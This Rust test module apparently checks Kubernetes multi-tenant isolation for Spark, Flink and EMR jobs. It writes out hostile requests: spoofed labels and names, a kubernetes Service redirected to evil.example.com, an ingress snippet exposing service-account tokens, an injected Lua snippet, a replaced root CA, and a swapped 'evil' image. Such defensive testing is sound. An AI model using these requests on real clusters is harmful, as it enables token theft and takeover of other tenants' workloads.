//! Section E: objects that claim to be a part of another's job, and changes of those
//! that are.

use serde_json::{Value, json};

use super::Way::{self, Request};
use super::{Answer, MERGE, Place, Stage, create, patch};
use crate::coverage::probes::{driver_pod, driver_service};
use crate::harness::accounts::{pod, pod_spec};
use crate::harness::cast::{JOB, OTHER_JOB, OTHER_ROLE, job_account};
use crate::harness::users::User;

const UUID: &str = "5f0b1a36-0f0e-4c5c-8f8a-000000000009";

fn labelled(stage: &Stage, place: Place<'_>, labels: &Value) -> Answer {
    let mut object = pod("mine", "default");
    object["metadata"]["labels"] = labels.clone();
    create(stage, &place.core("pods"), &object)
}

fn deployment(stage: &Stage, place: Place<'_>, labels: &Value) -> Answer {
    let mut spec = pod_spec("default");
    spec["restartPolicy"] = json!("Always");
    let object = json!({
        "apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "mine"},
        "spec": {"selector": {"matchLabels": labels}, "template": {"metadata": {"labels": labels}, "spec": spec}},
    });
    create(stage, &place.group("apps/v1", "deployments"), &object)
}

/// E1: by which Services and controllers find a job's pods.
#[rustfmt::skip]
pub(in crate::bypasses) const LABELS: &[Way] = &[
    Request("a gateway's labels", |stage, place| labelled(stage, place, &json!({"app": "enterprise-gateway", "pod-template-hash": "6d4cf56db6"}))),
    Request("a job manager's labels", |stage, place| labelled(stage, place, &json!({"app": "etl", "component": "jobmanager", "type": "flink-native-kubernetes"}))),
    Request("a replica set's label", |stage, place| labelled(stage, place, &json!({"app": "x", "pod-template-hash": "6d4cf56db6"}))),
    Request("a Job's label", |stage, place| labelled(stage, place, &json!({"batch.kubernetes.io/controller-uid": UUID}))),
    Request("a Job's old label", |stage, place| labelled(stage, place, &json!({"controller-uid": UUID}))),
    Request("a driver's labels on a pod of one's own", |stage, place| labelled(stage, place, &json!({"spark-role": "driver", "spark-app-selector": "spark-0123456789abcdef0123456789abcdef"}))),
    Request("EMR's labels on a pod of one's own", |stage, place| labelled(stage, place, &json!({"emr-containers.amazonaws.com/resource.type": "job.run"}))),
    Request("an operator's label", |stage, place| labelled(stage, place, &json!({"sparkoperator.k8s.io/app-name": "pi"}))),
    Request("a gateway's labels in a template", |stage, place| deployment(stage, place, &json!({"app": "enterprise-gateway"}))),
    Request("a job manager's labels in a template", |stage, place| deployment(stage, place, &json!({"app": "etl", "type": "flink-native-kubernetes"}))),
    Request("a Job that chooses its selector", |stage, place| {
        let labels = json!({"batch.kubernetes.io/controller-uid": UUID});
        create(stage, &place.group("batch/v1", "jobs"), &json!({
            "apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": "mine"},
            "spec": {"manualSelector": true, "selector": {"matchLabels": labels},
                "template": {"metadata": {"labels": labels}, "spec": pod_spec("default")}},
        }))
    }),
    Request("EMR's label on a Job", |stage, place| create(stage, &place.group("batch/v1", "jobs"), &json!({
        "apiVersion": "batch/v1", "kind": "Job",
        "metadata": {"name": "mine", "labels": {"emr-containers.amazonaws.com/job.id": JOB}},
        "spec": {"template": {"spec": pod_spec("default")}},
    }))),
    Request("EMR's label on a Job, by its status", |stage, place| by_status(stage, place, "is-labelled", &json!({"labels": {"emr-containers.amazonaws.com/job.id": JOB}}))),
    Request("the application to which a scheduler counts a pod", |stage, place| labelled(stage, place, &json!({"applicationId": format!("spark-{JOB}")}))),
];

/// A tenant's own Job; the API server stores the metadata that comes with its status.
fn by_status(stage: &Stage, place: Place<'_>, name: &str, metadata: &Value) -> Answer {
    let path = place.group("batch/v1", "jobs");
    let object = json!({
        "apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": name},
        "spec": {"suspend": true, "template": {"spec": pod_spec("default")}},
    });
    stage.cluster.create(&path, &object);
    patch(
        stage,
        &format!("{path}/{name}/status"),
        &json!({ "metadata": metadata }),
    )
}

/// E3.
#[rustfmt::skip]
pub(in crate::bypasses) const CLAIMS: &[Way] = &[
    Request("a claim that a driver finds", |stage, place| claim(stage, place, "mine", &json!({"spark-app-selector": format!("spark-{JOB}")}))),
    Request("a claim that an operator's driver finds", |stage, place| claim(stage, place, "mine", &json!({"spark-app-selector": "spark-0123456789abcdef0123456789abcdef"}))),
    Request("a claim with a job's name", |stage, place| claim(stage, place, &format!("scratch-{OTHER_JOB}"), &json!({}))),
    Request("a claim of another job's, by a driver", |stage, place| {
        let object = claim_object("mine", &json!({"spark-app-selector": format!("spark-{OTHER_JOB}")}));
        by(stage, &stage.driver(place), "POST", &place.core("persistentvolumeclaims"), &object)
    }),
];

fn claim_object(name: &str, labels: &Value) -> Value {
    json!({
        "apiVersion": "v1", "kind": "PersistentVolumeClaim", "metadata": {"name": name, "labels": labels},
        "spec": {"accessModes": ["ReadWriteMany"], "resources": {"requests": {"storage": "1Gi"}}},
    })
}

fn claim(stage: &Stage, place: Place<'_>, name: &str, labels: &Value) -> Answer {
    let object = claim_object(name, labels);
    create(stage, &place.core("persistentvolumeclaims"), &object)
}

/// A request of somebody else's, as a dry run.
fn by(stage: &Stage, user: &User, method: &'static str, path: &str, body: &Value) -> Answer {
    let path = format!("{path}?dryRun=All");
    let request = stage.cluster.request(user, method, &path);
    let kind = if method == "PATCH" {
        MERGE
    } else {
        "application/json"
    };
    request.body(kind, body.to_string()).send()
}

/// E4.
#[rustfmt::skip]
pub(in crate::bypasses) const MAPS: &[Way] = &[
    Request("a driver's map, by a mesh", |stage, place| maps(stage, place, "spark-drv-0123456789abcdef-conf-map")),
    Request("executors' map, by a mesh", |stage, place| maps(stage, place, "spark-exec-0123456789abcdef-conf-map")),
    Request("a pod's template, by a mesh", |stage, place| maps(stage, place, "pi-0123456789abcdef-driver-podspec-conf-map")),
    Request("a cluster's map, by a mesh", |stage, place| maps(stage, place, "etl-cluster-config-map")),
    Request("the API server's authority, by a mesh", |stage, place| by(
        stage, &stage.mesh(), "PATCH", &place.core("configmaps/kube-root-ca.crt"), &json!({"data": {"ca.crt": "mine"}}),
    )),
    Request("another job's map, by a driver", |stage, place| by(
        stage, &stage.driver(place), "POST", &place.core("configmaps"),
        &json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": format!("spark-drv-{OTHER_JOB}-conf-map")}}),
    )),
];

fn maps(stage: &Stage, place: Place<'_>, name: &str) -> Answer {
    let object = json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": name}, "data": {"spark.properties": "mine"}});
    by(
        stage,
        &stage.mesh(),
        "POST",
        &place.core("configmaps"),
        &object,
    )
}

/// E5 and E12.
#[rustfmt::skip]
pub(in crate::bypasses) const API_SERVER: &[Way] = &[
    Request("the API server's Service", |stage, place| service(stage, place, "kubernetes", &json!({"selector": {"app": "mine"}}))),
    Request("another name for the API server", |stage, place| service(stage, place, "kubernetes", &json!({"type": "ExternalName", "externalName": "evil.example.com"}))),
    Request("the API server's port", |stage, place| service(stage, place, "kubernetes-service", &json!({"selector": {"app": "mine"}}))),
];

#[rustfmt::skip]
pub(in crate::bypasses) const NAMESAKES: &[Way] = &[
    Request("a headless Service called default", |stage, place| service(stage, place, "default", &json!({"clusterIP": "None", "selector": {"app": "mine"}}))),
    Request("a headless Service called kube-system", |stage, place| service(stage, place, "kube-system", &json!({"clusterIP": "None", "selector": {"app": "mine"}}))),
    Request("a pod that is found as a job manager", |stage, place| {
        let mut object = pod("mine", "default");
        object["spec"]["hostname"] = json!("etl");
        object["spec"]["subdomain"] = json!(place.0);
        create(stage, &place.core("pods"), &object)
    }),
];

fn service_object(name: &str, fields: &Value) -> Value {
    let mut spec = json!({"ports": [{"port": 443}]});
    for (key, value) in fields.as_object().into_iter().flatten() {
        spec[key] = value.clone();
    }
    json!({"apiVersion": "v1", "kind": "Service", "metadata": {"name": name}, "spec": spec})
}

fn service(stage: &Stage, place: Place<'_>, name: &str, fields: &Value) -> Answer {
    create(
        stage,
        &place.core("services"),
        &service_object(name, fields),
    )
}

/// E7.
#[rustfmt::skip]
pub(in crate::bypasses) const NAMES: &[Way] = &[
    Request("a driver's name", |stage, place| named(stage, place, &format!("spark-{OTHER_JOB}-driver"))),
    Request("a retried driver's name", |stage, place| named(stage, place, &format!("spark-{OTHER_JOB}-driver-2"))),
    Request("a runner's name", |stage, place| named(stage, place, &format!("{OTHER_JOB}-abcde"))),
    Request("an executor's name", |stage, place| named(stage, place, "pi-772b9c81ae56a93d-exec-7")),
    Request("a task manager's name", |stage, place| named(stage, place, "etl-taskmanager-1-1")),
    Request("a runner's generated name", |stage, place| {
        let mut object = pod("mine", "default");
        object["metadata"] = json!({"generateName": format!("{OTHER_JOB}-")});
        create(stage, &place.core("pods"), &object)
    }),
    Request("a Job with a run's name", |stage, place| create(stage, &place.group("batch/v1", "jobs"), &json!({
        "apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": OTHER_JOB},
        "spec": {"template": {"spec": pod_spec("default")}},
    }))),
];

fn named(stage: &Stage, place: Place<'_>, name: &str) -> Answer {
    create(stage, &place.core("pods"), &pod(name, "default"))
}

/// E8: of the claim that waits for its volume.
#[rustfmt::skip]
pub(in crate::bypasses) const BOOKKEEPING: &[Way] = &[
    Request("a claim's binding", |stage, place| pending(stage, place, &json!({"annotations": {"pv.kubernetes.io/bind-completed": "yes"}}))),
    Request("a claim's node", |stage, place| pending(stage, place, &json!({"annotations": {"volume.kubernetes.io/selected-node": "n1"}}))),
    Request("a claim's finalizer", |stage, place| pending(stage, place, &json!({"finalizers": ["example.com/hold"]}))),
    Request("a claim's phase", |stage, place| {
        let path = place.core(&format!("persistentvolumeclaims/{}-pvc-0/status", driver_pod()));
        patch(stage, &path, &json!({"status": {"phase": "Lost"}}))
    }),
];

fn pending(stage: &Stage, place: Place<'_>, metadata: &Value) -> Answer {
    let path = place.core(&format!("persistentvolumeclaims/{}-pvc-0", driver_pod()));
    patch(stage, &path, &json!({"metadata": metadata}))
}

/// E9.
#[rustfmt::skip]
pub(in crate::bypasses) const SELECTORS: &[Way] = &[
    Request("a Service by Spark's version", |stage, place| selects(stage, place, &json!({"spark-version": "3.5.0"}))),
    Request("a Service by a replica set", |stage, place| selects(stage, place, &json!({"pod-template-hash": "6d4cf56db6"}))),
    Request("a Service by a Job", |stage, place| selects(stage, place, &json!({"controller-uid": UUID}))),
    Request("a Service by a kernel", |stage, place| selects(stage, place, &json!({"kernel_id": "1"}))),
    Request("a Service for every driver, by a driver", |stage, place| drivers(stage, place, &json!({"spark-role": "driver"}))),
    Request("a Service for any pod, by a driver", |stage, place| drivers(stage, place, &json!({"app": "etl"}))),
    Request("a Service for another's driver, by a driver", |stage, place| drivers(stage, place, &json!({"spark-app-selector": format!("spark-{OTHER_JOB}")}))),
];

fn selects(stage: &Stage, place: Place<'_>, selector: &Value) -> Answer {
    service(stage, place, "mine", &json!({"selector": selector}))
}

fn drivers(stage: &Stage, place: Place<'_>, selector: &Value) -> Answer {
    let object = service_object("mine", &json!({"selector": selector}));
    by(
        stage,
        &stage.driver(place),
        "POST",
        &place.core("services"),
        &object,
    )
}

/// E10: what the name alone says, without a cluster to ask.
#[rustfmt::skip]
pub(in crate::bypasses) const ROUTES: &[Way] = &[
    Request("an Ingress to a driver's page", |stage, place| ingress(stage, place, &driver_service(), &json!({}))),
    Request("an Ingress to a Flink cluster's page", |stage, place| create(stage, &place.group("networking.k8s.io/v1", "ingresses"), &json!({
        "apiVersion": "networking.k8s.io/v1", "kind": "Ingress", "metadata": {"name": "mine"},
        "spec": {"defaultBackend": {"service": {"name": "etl-rest", "port": {"number": 8081}}}},
    }))),
    Request("an Ingress to a driver by Spark's name", |stage, place| ingress(stage, place, "pi-772b9c81ae56a93d-driver-svc", &json!({}))),
];

/// E13.
#[rustfmt::skip]
pub(in crate::bypasses) const SNIPPETS: &[Way] = &[
    Request("a snippet that serves a token", |stage, place| ingress(stage, place, "shop", &json!({
        "nginx.ingress.kubernetes.io/server-snippet": "location /x { alias /var/run/secrets/kubernetes.io/serviceaccount/; }",
    }))),
    Request("a snippet that runs Lua", |stage, place| ingress(stage, place, "shop", &json!({
        "nginx.ingress.kubernetes.io/configuration-snippet": "content_by_lua 'ngx.say(1)';",
    }))),
];

fn ingress(stage: &Stage, place: Place<'_>, service: &str, annotations: &Value) -> Answer {
    create(
        stage,
        &place.group("networking.k8s.io/v1", "ingresses"),
        &json!({
            "apiVersion": "networking.k8s.io/v1", "kind": "Ingress",
            "metadata": {"name": "mine", "annotations": annotations},
            "spec": {"defaultBackend": {"service": {"name": service, "port": {"number": 4040}}}},
        }),
    )
}

/// E11: what EMR leaves, by a job of the same role.
#[rustfmt::skip]
pub(in crate::bypasses) const TEMPLATES: &[Way] = &[
    Request("a gateway's image, by a driver", |stage, place| gateway(stage, place, &json!({"image": "registry.example/evil:1"}))),
    Request("a gateway's command, by a driver", |stage, place| gateway(stage, place, &json!({"image": "registry.example/main:1", "command": ["sh"]}))),
    Request("a gateway's variables, by a driver", |stage, place| gateway(stage, place, &json!({"image": "registry.example/main:1", "env": [{"name": "A", "value": "b"}]}))),
];

/// The gateway's Deployment that [`Stage`] keeps.
pub(crate) const GATEWAY: &str = "jeg-x";

fn gateway(stage: &Stage, place: Place<'_>, container: &Value) -> Answer {
    let mut container = container.clone();
    container["name"] = json!("main");
    let path = place.group("apps/v1", &format!("deployments/{GATEWAY}"));
    by(
        stage,
        &stage.driver(place),
        "PATCH",
        &path,
        &json!({"spec": {"template": {"spec": {"containers": [container]}}}}),
    )
}

/// E14: an object that keeps its owner from going.
#[rustfmt::skip]
pub(in crate::bypasses) const OWNERS: &[Way] = &[
    Request("a pod that holds a driver", |stage, place| owned(stage, place, "pods", json!({"apiVersion": "v1", "kind": "Pod", "metadata": {}, "spec": pod_spec("default")}))),
    Request("a claim that holds a driver", |stage, place| owned(stage, place, "persistentvolumeclaims", claim_object("x", &json!({})))),
    Request("a Service that holds a driver", |stage, place| owned(stage, place, "services", service_object("x", &json!({})))),
    Request("a Job that holds a driver, by its status", |stage, place| by_status(stage, place, "is-owned", &holds_driver())),
    Request("a set whose claims hold a driver", |stage, place| {
        let labels = json!({"app": "mine"});
        let mut spec = pod_spec("default");
        spec["restartPolicy"] = json!("Always");
        let mut claim = claim_object("data", &json!({}));
        claim["metadata"] = holds_driver();
        claim["metadata"]["name"] = json!("data");
        create(stage, &place.group("apps/v1", "statefulsets"), &json!({
            "apiVersion": "apps/v1", "kind": "StatefulSet", "metadata": {"name": "mine"},
            "spec": {"serviceName": "mine", "selector": {"matchLabels": labels},
                "template": {"metadata": {"labels": labels}, "spec": spec}, "volumeClaimTemplates": [claim]},
        }))
    }),
];

fn holds_driver() -> Value {
    json!({
        "finalizers": ["example.com/hold"],
        "ownerReferences": [{"apiVersion": "v1", "kind": "Pod", "name": driver_pod(), "uid": UUID, "blockOwnerDeletion": true}],
    })
}

/// E15: `<pod>-<volume>` is the name of the claim that Kubernetes makes.
#[rustfmt::skip]
pub(in crate::bypasses) const CLAIMS_OF_PODS: &[Way] = &[
    Request("an executor's claim, by a pod's own volume", |stage, place| own_volume(stage, place, "pi-772b9c81ae56a93d", "exec-1-pvc-0")),
    Request("a driver's claim, by a pod's own volume", |stage, place| own_volume(stage, place, "pi-772b9c81ae56a93d", "driver-pvc-0")),
];

fn own_volume(stage: &Stage, place: Place<'_>, name: &str, volume: &str) -> Answer {
    let claim = claim_object("x", &json!({}));
    let mut object = pod(name, "default");
    object["spec"]["volumes"] =
        json!([{"name": volume, "ephemeral": {"volumeClaimTemplate": {"spec": claim["spec"]}}}]);
    create(stage, &place.core("pods"), &object)
}

/// E16.
#[rustfmt::skip]
pub(in crate::bypasses) const CUT_OFF: &[Way] = &[
    Request("a policy that cuts another job's executors off, by a driver", |stage, place| {
        let pods = json!({"matchLabels": {"spark-app-selector": format!("spark-{OTHER_JOB}")}});
        let object = json!({
            "apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy", "metadata": {"name": "mine"},
            "spec": {"podSelector": pods, "policyTypes": ["Ingress"], "ingress": []},
        });
        by(stage, &stage.driver(place), "POST", &place.group("networking.k8s.io/v1", "networkpolicies"), &object)
    }),
];

fn owned(stage: &Stage, place: Place<'_>, resource: &str, mut object: Value) -> Answer {
    object["metadata"] = holds_driver();
    object["metadata"]["name"] = json!("mine");
    create(stage, &place.core(resource), &object)
}

/// The gateway's Deployment of the driver's role, as EMR leaves it.
pub(crate) fn gateways_deployment() -> Value {
    let mut spec = pod_spec(&job_account("jeg", OTHER_ROLE));
    spec["restartPolicy"] = json!("Always");
    let labels = json!({"app": "enterprise-gateway"});
    json!({
        "apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": GATEWAY, "labels": labels},
        "spec": {"replicas": 0, "selector": {"matchLabels": labels}, "template": {"metadata": {"labels": labels}, "spec": spec}},
    })
}
